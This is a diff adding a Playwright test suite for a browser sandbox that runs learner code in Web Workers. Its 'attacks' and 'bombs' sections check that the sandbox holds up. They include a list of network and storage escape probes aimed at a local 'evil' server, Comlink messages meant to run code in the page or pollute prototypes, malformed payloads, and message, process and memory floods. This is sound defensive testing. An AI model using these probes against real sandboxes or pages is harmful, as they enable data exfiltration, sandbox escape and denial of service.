@@ -1,0 +1,588 @@
+import { expect, test } from '@playwright/test';
+import {
+  COUNTERS,
+  ended,
+  EvilServer,
+  inPlainBrowser,
+  longestFrame,
+  makeSandbox,
+  openPage,
+  printed,
+  row,
+  run,
+  until,
+  watchFrames,
+} from './sandbox-kit';
+
+/** Longest frame the page may have while a sandbox misbehaves, ms. It is a few dozen on a quiet machine. */
+const RESPONSIVE = 600;
+
+test.describe('a sandbox', () => {
+  test.beforeEach(async ({ page }) => {
+    await openPage(page);
+    await makeSandbox(page);
+  });
+
+  test('[SBX40] [SBX42] runs a program, kills a process, and sees the restart in the tree', async ({
+    page,
+  }) => {
+    await run(page, COUNTERS);
+    const seen = await page.evaluate(async () => {
+      const { client } = window;
+      const watch = client.watch('system.tree', {});
+      const until = (slot: string, incarnation: number) =>
+        new Promise<void>((resolve) => {
+          const off = watch.subscribe(({ nodes }) => {
+            const node = nodes[slot];
+            if (node?.incarnation !== incarnation || node.status !== 'idle') return;
+            queueMicrotask(() => off());
+            resolve();
+          });
+        });
+      await until('app/b', 1);
+      const before = watch.value;
+      const killed = await client.execute('process.kill', { pid: 'b', reason: 'kill' });
+      await until('app/b', 2);
+      const after = watch.value;
+      const value = await client.execute('process.call', { pid: 'b', request: 'value' });
+      const state = client.state;
+      watch.close();
+      return {
+        killed,
+        value,
+        state,
+        tombstone: after?.nodes['app/b']?.tombstones[0]?.reason,
+        sameA: before?.nodes['app/a'] === after?.nodes['app/a'],
+      };
+    });
+    expect(seen).toEqual({ killed: 'ok', value: 10, state: 'running', tombstone: 'killed', sameA: true });
+  });
+
+  test('answers window.otp: execute, view, watch, operations', async ({ page }) => {
+    await run(page, COUNTERS);
+    const seen = await page.evaluate(async () => {
+      const { otp } = window;
+      if (otp === undefined) throw new Error('no console API');
+      const operations = await otp.operations();
+      const pushed = await new Promise<number>((resolve) => {
+        const stop = otp.watch('system.tree', {}, ({ nodes }) => {
+          const { length } = Object.keys(nodes);
+          if (length >= 3) resolve(length);
+        });
+        setTimeout(stop, 2_000);
+      });
+      const tree = (await otp.view('system.tree')) as { nodes: object };
+      return {
+        kill: operations.find(({ name }) => name === 'process.kill'),
+        pushed,
+        slots: Object.keys(tree.nodes).sort(),
+        unknown: await otp.execute('no.such'),
+        bad: await otp.execute('process.kill', { pid: [] }),
+      };
+    });
+    expect(seen.slots).toEqual(expect.arrayContaining(['app', 'app/a', 'app/b']));
+    expect(seen.pushed).toBeGreaterThanOrEqual(3);
+    expect(seen.kill).toMatchObject({
+      summary: expect.any(String),
+      params: { type: 'object', required: ['pid'] },
+    });
+    expect(seen.unknown).toMatchObject({ error: { code: 'unknown_operation' } });
+    expect(seen.bad).toMatchObject({ error: { code: 'bad_params' } });
+  });
+
+  test('[SBX41] pushes at most once a frame, however much happens', async ({ page }) => {
+    await run(
+      page,
+      `import { self, send, receive } from 'otp'\nfor (;;) { send(self(), 'again'); await receive() }`,
+    );
+    const seen = await page.evaluate(async () => {
+      const watch = window.client.watch('run.status', {});
+      let pushes = 0;
+      watch.subscribe(() => pushes++);
+      const start = watch.value?.position ?? 0;
+      await new Promise((resolve) => setTimeout(resolve, 1_000));
+      return { pushes, events: (watch.value?.position ?? 0) - start };
+    });
+    expect(seen.events).toBeGreaterThan(10_000);
+    expect(seen.pushes).toBeLessThan(75);
+  });
+
+  test('[SBX25] every request ends: superseded, cancelled, gone', async ({ page }) => {
+    await run(page, COUNTERS);
+    const codes = await page.evaluate(async () => {
+      const { client } = window;
+      await client.execute('run.pause');
+      const call = (options?: object) =>
+        client.execute('process.call', { pid: 'b', request: 'value' }, options);
+      const abort = new AbortController();
+      const first = call({ key: 'k' });
+      const second = call({ key: 'k', signal: abort.signal });
+      const third = call();
+      const superseded = await first;
+      abort.abort();
+      const cancelled = await second;
+      client.close();
+      const gone = await third;
+      const late = await call();
+      return [superseded, cancelled, gone, late].map((answer) =>
+        typeof answer === 'object' && answer !== null && 'error' in answer
+          ? (answer.error as { code: string }).code
+          : answer,
+      );
+    });
+    expect(codes).toEqual(['superseded', 'cancelled', 'gone', 'gone']);
+  });
+});
+
+test.describe('attacks', () => {
+  let evil: EvilServer;
+  test.beforeEach(async ({ page }) => {
+    evil = await EvilServer.start();
+    await openPage(page);
+  });
+  test.afterEach(() => evil.stop());
+
+  /** Each is the body of an async function in the real global scope; to come back without an error is to be open. */
+  const probes: Record<string, string> = {
+    fetch: `await fetch(evil + '/fetch', { mode: 'no-cors' })`,
+    'fetch with credentials': `await fetch(evil + '/credentials', { credentials: 'include' })`,
+    'fetch keepalive': `await fetch(evil + '/keepalive', { method: 'POST', body: 'x', keepalive: true, mode: 'no-cors' })`,
+    'fetch same origin': `await fetch(home)`,
+    'fetch same origin with credentials': `await fetch(home + 'api/v1/sandboxes', { credentials: 'include' })`,
+    XMLHttpRequest: `await new Promise((ok, no) => { const x = new XMLHttpRequest(); x.open('GET', evil + '/xhr'); x.onload = ok; x.onerror = no; x.send() })`,
+    'XMLHttpRequest sync': `const x = new XMLHttpRequest(); x.open('GET', evil + '/sync', false); x.send()`,
+    'XMLHttpRequest same origin': `const x = new XMLHttpRequest(); x.open('GET', home, false); x.send()`,
+    WebSocket: `await new Promise((ok, no) => { const s = new WebSocket(evil.replace('http', 'ws') + '/ws'); s.onopen = ok; s.onerror = no; s.onclose = no })`,
+    EventSource: `await new Promise((ok, no) => { const s = new EventSource(evil + '/events'); s.onopen = ok; s.onerror = no })`,
+    sendBeacon: `if (!navigator.sendBeacon(evil + '/beacon', 'x')) throw 0`,
+    WebTransport: `await new WebTransport(evil.replace('http:', 'https:') + '/transport').ready`,
+    'import()': `await import(evil + '/import')`,
+    'import() by eval': `await eval('import("' + evil + '/eval-import")')`,
+    'import() by Function': `await Function('u', 'return import(u)')(evil + '/function-import')`,
+    'import() by AsyncFunction': `await (async () => {}).constructor('u', 'return await import(u)')(evil + '/async-import')`,
+    'import() same origin': `await import(home + '_app/version.json')`,
+    'import() of data': `await import('data:text/javascript,export default 1')`,
+    'import() in a blob': `await import(URL.createObjectURL(new Blob(['import "' + evil + '/blob-import"'], { type: 'text/javascript' })))`,
+    importScripts: `importScripts(evil + '/scripts')`,
+    'importScripts same origin': `importScripts(home + '_app/version.json')`,
+    'nested Worker': `await new Promise((ok, no) => { const w = new Worker(evil + '/worker'); w.onmessage = ok; w.onerror = no; setTimeout(no, 1500) })`,
+    'nested Worker same origin': `await new Promise((ok, no) => { const w = new Worker(home + 'worker.js'); w.onmessage = ok; w.onerror = no; setTimeout(no, 1500) })`,
+    'nested Worker of a blob that fetches': `await new Promise((ok, no) => { const w = new Worker(URL.createObjectURL(new Blob(['fetch("' + evil + '/nested").then(() => postMessage(1), () => close())']))); w.onmessage = ok; w.onerror = no; setTimeout(no, 1500) })`,
+    'nested Worker of a blob that imports': `await new Promise((ok, no) => { const w = new Worker(URL.createObjectURL(new Blob(['import("' + evil + '/nested-import").then(() => postMessage(1), () => close())']))); w.onmessage = ok; w.onerror = no; setTimeout(no, 1500) })`,
+    SharedWorker: `new SharedWorker(evil + '/shared')`,
+    FontFace: `await new FontFace('evil', 'url(' + evil + '/font)').load()`,
+    'source map': `eval('1 //# source' + 'MappingURL=' + evil + '/map'); throw 0`,
+    indexedDB: `await new Promise((ok, no) => { const r = indexedDB.open('otp-lab'); r.onsuccess = ok; r.onerror = no })`,
+    'indexedDB.databases': `await indexedDB.databases()`,
+    caches: `await caches.keys()`,
+    'storage directory': `await navigator.storage.getDirectory()`,
+    'sync file system': `webkitRequestFileSystemSync(0, 1)`,
+    localStorage: `localStorage.length`,
+    sessionStorage: `sessionStorage.length`,
+    cookieStore: `await cookieStore.getAll()`,
+    locks: `await navigator.locks.request('otp-lab', () => {})`,
+    'service worker': `await navigator.serviceWorker.getRegistrations()`,
+    'subtle crypto': `await crypto.subtle.digest('SHA-256', new Uint8Array(1))`,
+    SharedArrayBuffer: `new SharedArrayBuffer(8)`,
+    window: `window.top.location`,
+    parent: `parent.postMessage('out', '*')`,
+    top: `top.postMessage('out', '*')`,
+    opener: `opener.postMessage('out', '*')`,
+    open: `open(evil + '/open')`,
+    document: `document.cookie`,
+    location: `location.href = evil + '/navigate'; if (!location.href.includes(evil)) throw 0`,
+  };
+
+  test('[SBX1] [SBX2] no probe of the list gets out, from code that has reached the real globals', async ({
+    page,
+    baseURL,
+  }) => {
+    // The counter counts: the page itself, which is free, reaches it.
+    const address = `http://localhost:${evil.port}`;
+    await page.evaluate((url) => fetch(`${url}/control`, { mode: 'no-cors' }).then(() => {}), address);
+    expect(evil.hits.splice(0)).toEqual(['GET /control']);
+    await page.evaluate(() => {
+      window.heard = [];
+      new BroadcastChannel('otp-lab').onmessage = (event) => window.heard.push(event.data);
+      addEventListener('message', (event) => {
+        if ((event.data as { type?: string }).type !== 'here') window.heard.push(event.data);
+      });
+    });
+    await makeSandbox(page);
+    const program = `
+      import { sleep } from 'otp'
+      const evaluate = [].constructor.constructor
+      evaluate('probes', 'evil', 'home', \`
+        const AsyncFunction = (async () => {}).constructor
+        self.found = {}
+        for (const [name, code] of Object.entries(probes)) {
+          self.found[name] = 'no answer'
+          const finish = (how) => { self.found[name] = how }
+          try { AsyncFunction('evil', 'home', code)(evil, home).then(() => finish('open'), (e) => finish('closed ' + (e?.name ?? e?.type ?? e))) }
+          catch (e) { finish('closed ' + e.name) }
+        }
+        try { const b = new BroadcastChannel('otp-lab'); b.postMessage('broadcast') } catch {}
+        try { self.postMessage({ type: 'start', code: 'x' }) } catch {}
+        try { self.postMessage('out') } catch {}
+        try { self.dispatchEvent(new MessageEvent('message', { data: 0 })) } catch {}
+      \`)(${JSON.stringify(probes)}, ${JSON.stringify(address)}, ${JSON.stringify(baseURL)})
+      await sleep(3000)
+      console.log('found ' + JSON.stringify(evaluate('return self.found')()))
+      console.log('globals ' + evaluate('return typeof fetch + typeof Worker')())
+    `;
+    await run(page, program);
+    const found = JSON.parse(await printed(page, 'found ', 20_000)) as Record<string, string>;
+    expect(Object.keys(found).sort()).toEqual(Object.keys(probes).sort());
+    // They really reached the host's globals, and were still shut in.
+    expect(await printed(page, 'globals ')).toBe('functionfunction');
+    const open = Object.entries(found).filter(([, how]) => how === 'open');
+    expect(open).toEqual([]);
+    expect(evil.hits).toEqual([]);
+    expect(await page.evaluate(() => window.heard)).toEqual([]);
+    expect(await page.evaluate(() => window.client.state)).toMatch(/ready|running/);
+  });
+
+  /** A Web Worker that is hostile as a whole: `requests` and `pushes` are the two ports. */
+  const hostile = (body: string) => `
+    self.onmessage = ({ ports: [requests, pushes] }) => {
+      const tell = (message) => pushes.postMessage(JSON.stringify(message))
+      const pong = () => requests.addEventListener('message', ({ data }) => {
+        if (data.path?.[0] === 'ping') requests.postMessage({ id: data.id, type: 'RAW', value: '"pong"' })
+      })
+      requests.start(); pushes.start()
+      ${body}
+    }`;
+  const run_ = `{ state: 'running', time: 0, position: 0, first: 0, playhead: 0, speed: 1, seed: 0, processes: 0, idle: true }`;
+  const status = `{ run: ${run_}, moment: { time: 0, slice: 0, position: 0 } }`;
+
+  test('[SBX2] raw Comlink messages on either port do nothing: the page exposes nothing', async ({
+    page,
+  }) => {
+    const attack = `
+      const evilCode = 'window.pwned = "main"; return window'
+      for (const port of [requests, pushes]) for (const path of [['onEvent', 'constructor'], ['constructor', 'constructor'], ['constructor']]) {
+        port.postMessage({ id: '1', type: 'CONSTRUCT', path, argumentList: [{ type: 'RAW', value: evilCode }] })
+        port.postMessage({ id: '2', type: 'APPLY', path, argumentList: [{ type: 'RAW', value: evilCode }] })
+        port.postMessage({ id: '3', type: 'SET', path: ['__proto__', 'polluted'], value: { type: 'RAW', value: 'yes' } })
+        port.postMessage({ id: '4', type: 'GET', path: ['__proto__'] })
+        port.postMessage({ id: '5', type: 'ENDPOINT', path: [] })
+      }`;
+    const code = hostile(`pong(); tell({ type: 'ready' }); requests.onmessage = ({ data }) => {
+      if (data.path?.[0] !== 'execute') return
+      const { port1, port2 } = new MessageChannel()
+      port1.onmessage = (event) => self.postMessage(event.data)
+      requests.postMessage({ id: data.id, type: 'HANDLER', name: 'proxy', value: port2 }, [port2])
+      ${attack}
+    }`);
+    await makeSandbox(page, { code });
+    const answer = await page.evaluate(() => window.client.execute('run.status'));
+    expect(answer).toMatchObject({ error: { code: expect.stringMatching(/bad_data|gone/) } });
+    const report = await ended(page);
+    expect(report).toMatchObject({ cause: 'bad_data', state: 'crashed' });
+    expect(await page.evaluate(() => [window.pwned, ({} as { polluted?: string }).polluted])).toEqual([
+      undefined,
+      undefined,
+    ]);
+  });
+
+  test('[SBX4] learner code finds no port to post on, and cannot replace how we post', async ({ page }) => {
+    await makeSandbox(page);
+    await run(
+      page,
+      `import { sleep } from 'otp'
+      const evaluate = [].constructor.constructor
+      const seen = evaluate(\`
+        const seen = []
+        const raw = { id: '1', type: 'CONSTRUCT', path: ['onEvent', 'constructor'], argumentList: [{ type: 'RAW', value: 'window.pwned = 1' }] }
+        const steal = (what) => function (...args) { if (this instanceof MessagePort) { seen.push(what); this.postMessage(raw) } }
+        for (const name of ['postMessage', 'start', 'addEventListener'])
+          try { MessagePort.prototype[name] = steal(name) } catch (e) { }
+        try { Object.defineProperty(MessagePort.prototype, 'postMessage', { value: steal('defined') }) } catch (e) { }
+        try { EventTarget.prototype.addEventListener = steal('listen') } catch (e) { }
+        try { JSON.stringify = () => { seen.push('stringify'); return '"x"' } } catch (e) { }
+        for (const key of Reflect.ownKeys(self)) { let v; try { v = self[key] } catch { continue } if (v instanceof MessagePort) { seen.push(String(key)); v.postMessage(raw) } }
+        return seen
+      \`)()
+      await sleep(300)
+      console.log('seen ' + seen.join())`,
+    );
+    expect(await printed(page, 'seen ')).toBe('');
+    expect(await page.evaluate(() => window.pwned)).toBeUndefined();
+  });
+
+  const nasty: Record<string, string> = {
+    'a key __proto__ in a tree': `'{"type":"views","status":' + JSON.stringify(${status}) + ',"changes":[{"id":1,"view":"system.tree","snapshot":{"position":1,"time":0,"roots":[],"wires":[],"__proto__":{"polluted":"yes"},"nodes":{"__proto__":{"polluted":"yes"},"constructor":{"prototype":{"polluted":"yes"}}}}}]}'`,
+    'an infinite number': `'{"type":"started","seed":1e999}'`,
+    'an object instead of text': `{ type: 'started', seed: 1 }`,
+    'no JSON': `'{'`,
+    'an unknown type': `'{"type":"pwn"}'`,
+    'a row without an end': `'{"type":"views","status":' + JSON.stringify(${status}) + ',"changes":[{"id":1,"view":"trace.window","snapshot":{"total":1,"first":0,"rows":[' + '1,'.repeat(5000) + '1]}}]}'`,
+    'deep nesting': `'{"type":"applied","operation":{"at":{"time":0,"slice":0,"position":0},"op":"x","params":' + '['.repeat(5000) + ']'.repeat(5000) + '}}'`,
+    'a huge text': `'"' + 'x'.repeat(40000000) + '"'`,
+  };
+  for (const [what, expression] of Object.entries(nasty)) {
+    test(`[SBX11] [SBX12] pushed data cannot reach the page: ${what}`, async ({ page }) => {
+      await makeSandbox(page, {
+        code: hostile(
+          `pong(); tell({ type: 'ready' }); setTimeout(() => pushes.postMessage(${expression}), 200)`,
+        ),
+      });
+      await page.evaluate(() => {
+        const watch = window.client.watch('system.tree', {});
+        window.heard = [];
+        watch.subscribe((tree) => window.heard.push({ ...tree.nodes }));
+      });
+      if (what.startsWith('a key')) {
+        await page.waitForTimeout(600);
+        const seen = await page.evaluate(() => ({
+          polluted: ({} as { polluted?: string }).polluted ?? null,
+          heard: window.heard.map((nodes) => Object.keys(nodes as object)),
+          state: window.client.state,
+        }));
+        // Dropped or refused; either way nothing of it arrives.
+        expect(seen.polluted).toBeNull();
+        expect(seen.heard.flat()).toEqual([]);
+        return;
+      }
+      expect(await ended(page)).toMatchObject({ cause: 'bad_data', state: 'crashed' });
+    });
+  }
+
+  test('[SBX13] a flood of messages is cut off, and the page stays responsive', async ({ page }) => {
+    await watchFrames(page);
+    await makeSandbox(page, {
+      code: hostile(
+        `pong(); tell({ type: 'ready' }); setTimeout(() => { for (;;) pushes.postMessage('{"type":"started","seed":1}') }, 300)`,
+      ),
+    });
+    const report = await ended(page);
+    expect(report).toMatchObject({ cause: 'flood', state: 'crashed' });
+    await page.waitForTimeout(500);
+    expect(await longestFrame(page)).toBeLessThan(2 * RESPONSIVE);
+  });
+
+  test('[SBX13] a flood on the port of requests is cut off too', async ({ page }) => {
+    await watchFrames(page);
+    await makeSandbox(page, {
+      code: hostile(
+        `pong(); tell({ type: 'ready' }); setTimeout(() => { for (;;) requests.postMessage({ id: 'x' }) }, 300)`,
+      ),
+    });
+    expect(await ended(page)).toMatchObject({ cause: 'flood' });
+    await page.waitForTimeout(500);
+    expect(await longestFrame(page)).toBeLessThan(2 * RESPONSIVE);
+  });
+
+  test('[SBX3] a flood of real postMessage by learner code goes nowhere', async ({ page }) => {
+    await makeSandbox(page);
+    await watchFrames(page);
+    await run(
+      page,
+      `[].constructor.constructor('for (;;) self.postMessage({ type: "error", message: "x".repeat(1000) })')()`,
+    );
+    expect(await ended(page)).toMatchObject({ cause: expect.stringMatching(/hung|process_gone/) });
+    expect(await longestFrame(page)).toBeLessThan(RESPONSIVE);
+  });
+
+  test('[SBX25] a Web Worker that is alive and never answers leaves nothing pending', async ({ page }) => {
+    await makeSandbox(page, {
+      code: hostile(`pong(); tell({ type: 'ready' })`),
+      requests: { takeUpMs: 500 },
+    });
+    const answer = await page.evaluate(() => window.client.execute('run.status'));
+    expect(answer).toMatchObject({ error: { code: 'no_answer' } });
+  });
+
+  test('[SBX25] a ticket that is never answered ends too', async ({ page }) => {
+    const later = `requests.addEventListener('message', ({ data }) => {
+      if (data.path?.[0] === 'execute') requests.postMessage({ id: data.id, type: 'RAW', value: '{"type":"later","ticket":1}' })
+    })`;
+    await makeSandbox(page, {
+      code: hostile(`pong(); ${later}; tell({ type: 'ready' })`),
+      requests: { takeUpMs: 500, answerMs: 700 },
+    });
+    const answer = await page.evaluate(() =>
+      window.client.execute('process.call', { pid: 'b', request: 'x' }),
+    );
+    expect(answer).toMatchObject({ error: { code: 'no_answer' } });
+  });
+
+  test('[SBX23] a script that does not start is reported', async ({ page }) => {
+    const up = await page.evaluate(async () => {
+      window.client = window.sandboxes.create({ code: 'this is no script' });
+      return window.client.ready();
+    });
+    expect(up).toBe(false);
+    expect(await ended(page)).toMatchObject({ cause: 'error', state: 'crashed' });
+  });
+});
+
+test.describe('bombs', () => {
+  test.beforeEach(async ({ page }) => {
+    await openPage(page);
+    await makeSandbox(page);
+    await watchFrames(page);
+  });
+  test.afterEach(async ({ page }) => {
+    expect(await longestFrame(page)).toBeLessThan(RESPONSIVE);
+  });
+
+  test('[SBX26] while (true) {} at module scope is preempted: it is seen, and can be killed', async ({
+    page,
+  }) => {
+    await run(page, `const a = 1\nconsole.log('here')\nwhile (true) {}\n`);
+    const last = await until(
+      page,
+      async () => (window.client.status?.last?.line === 3 ? window.client.status.last : undefined),
+      null,
+    );
+    expect(last).toMatchObject({ label: 'main#1', file: 'main.ts', line: 3 });
+    expect(await page.evaluate(() => window.client.execute('process.kill', { pid: '<0.1.0>' }))).toBe('ok');
+    expect((await row(page, ['exit'], 'killed')).text).toContain('main#1');
+    expect(await page.evaluate(() => window.client.state)).toBe('ready');
+  });
+
+  test('[SBX26] while (true) {} in a synchronous function ends its process, with file and line', async ({
+    page,
+  }) => {
+    await run(page, `console.log('here')\nfunction spin() {\n  while (true) {}\n}\nspin()\n`);
+    const exit = await row(page, ['exit'], 'main#1');
+    expect(exit.text).toContain('ReductionsError: This code in `spin` (main.ts:3)');
+    expect(exit.at).toEqual({ file: 'main.ts', line: 3 });
+    expect(await page.evaluate(() => window.client.report)).toBeNull();
+  });
+
+  test('[SBX21] [SBX24] a regular expression without end is found, reported and ended', async ({ page }) => {
+    await run(page, COUNTERS);
+    const answers = await page.evaluate(async () => {
+      const { client } = window;
+      await new Promise((resolve) => setTimeout(resolve, 300));
+      await client.execute('process.kill', { pid: 'a', reason: 'kill' });
+      await new Promise((resolve) => setTimeout(resolve, 300));
+      await client.execute('process.cast', { pid: 'b', request: 'hang' });
+      const started = performance.now();
+      const call = await client.execute('process.call', { pid: 'b', request: 'value' });
+      return { call, took: performance.now() - started };
+    });
+    expect(answers.call).toMatchObject({ error: { code: 'gone' } });
+    const report = await ended(page);
+    expect(report).toMatchObject({ cause: 'hung', state: 'hung', unconfirmed: { op: 'process.cast' } });
+    expect(report.status?.last?.label).toBe('b#1');
+    expect(report.text).toContain('process.cast');
+    expect(answers.took).toBeLessThan(6_000);
+    expect(await page.evaluate(() => window.client.execute('run.status'))).toMatchObject({
+      error: { code: 'gone' },
+    });
+  });
+
+  test('[SBX31] [SBX32] [SBX45] after a hang it is replayed up to before it, and watches go on', async ({
+    page,
+  }) => {
+    await run(page, COUNTERS);
+    const seen = await page.evaluate(async () => {
+      const { client } = window;
+      const wait = (ms: number) => new Promise((resolve) => setTimeout(resolve, ms));
+      const watch = client.watch('system.tree', {});
+      await wait(300);
+      await client.execute('process.kill', { pid: 'a', reason: 'kill' });
+      await wait(300);
+      const rows = async () => {
+        const trace = await client.view('trace.window', { from: 0, count: 1000 });
+        return 'rows' in trace ? trace.rows.map((row) => `${row.seq} ${row.time} ${row.text}`) : [];
+      };
+      const before = await rows();
+      await client.execute('process.cast', { pid: 'b', request: 'hang' });
+      await new Promise<void>((resolve) => client.onEnd(() => resolve()));
+      const ended = client.state;
+      const status = await client.restart('replay');
+      await wait(200);
+      const after = await rows();
+      const incarnations = [
+        watch.value?.nodes['app/a']?.incarnation,
+        watch.value?.nodes['app/b']?.incarnation,
+      ];
+      const resumed = await client.execute('run.resume');
+      await wait(100);
+      const value = await client.execute('process.call', { pid: 'b', request: 'value' });
+      return {
+        before,
+        after,
+        ended,
+        status,
+        incarnations,
+        resumed,
+        value,
+        report: client.report,
+        state: client.state,
+      };
+    });
+    expect(seen.ended).toBe('hung');
+    expect(seen.status).toMatchObject({ state: 'paused' });
+    expect(seen.after).toEqual(seen.before);
+    expect(seen.incarnations).toEqual([2, 1]);
+    expect(seen.value).toBe(10);
+    expect(seen.report).toBeNull();
+    expect(seen.state).toBe('running');
+  });
+
+  test('[SBX31] it can start afresh too', async ({ page }) => {
+    await run(page, COUNTERS);
+    const seen = await page.evaluate(async () => {
+      const { client } = window;
+      await client.execute('process.cast', { pid: 'b', request: 'hang' });
+      await new Promise<void>((resolve) => client.onEnd(() => resolve()));
+      const status = await client.restart('fresh');
+      await new Promise((resolve) => setTimeout(resolve, 100));
+      return { status, value: await client.execute('process.call', { pid: 'b', request: 'value' }) };
+    });
+    expect(seen).toMatchObject({ status: { state: 'running', seed: 0 }, value: 10 });
+  });
+
+  test('a hang in one sandbox does not touch another', async ({ page }) => {
+    await run(page, COUNTERS);
+    const seen = await page.evaluate(async () => {
+      const { client } = window;
+      const other = window.sandboxes.create();
+      await other.ready();
+      await client.execute('process.cast', { pid: 'b', request: 'hang' });
+      await new Promise<void>((resolve) => client.onEnd(() => resolve()));
+      return { other: await other.execute('run.status'), state: other.state };
+    });
+    expect(seen).toMatchObject({ other: { state: 'empty' }, state: 'ready' });
+  });
+
+  test('a process bomb meets system_limit', async ({ page }) => {
+    await page.evaluate(() => void window.client.watch('system.tree', {}));
+    await run(page, `import { spawn, receive } from 'otp'\nfor (;;) spawn(async () => { await receive() })`);
+    await row(page, ['exit', 'limit'], 'system_limit', 25_000);
+    expect(await page.evaluate(() => window.client.report)).toBeNull();
+  });
+
+  test('a mailbox bomb ends its owner with system_limit', async ({ page }) => {
+    await page.evaluate(() => void window.client.watch('system.tree', {}));
+    await run(
+      page,
+      `import { spawn, receive, send, sleep } from 'otp'
+      const victim = spawn(async () => { await sleep(1_000_000_000) })
+      async function fill() { for (;;) send(victim, 'x') }
+      await fill()`,
+    );
+    await row(page, ['exit', 'limit'], 'system_limit', 25_000);
+    expect(await page.evaluate(() => window.client.report)).toBeNull();
+  });
+});
+
+test('[SBX22] a memory bomb ends the process of all sandboxes, not the page; they are told and restarted', async ({
+  baseURL,
+}, info) => {
+  test.setTimeout(90_000);
+  const told = await inPlainBrowser(`${baseURL}dev/sandbox#memory`, info.outputPath('profile'));
+  expect(told).toMatchObject({
+    bomb: { cause: 'process_gone' },
+    other: { cause: 'process_gone' },
+    pending: { error: { code: 'gone' } },
+    restarted: { state: 'empty' },
+    state: 'ready',
+  });
+  expect(told['longestFrame']).toBeLessThan(RESPONSIVE);
+});
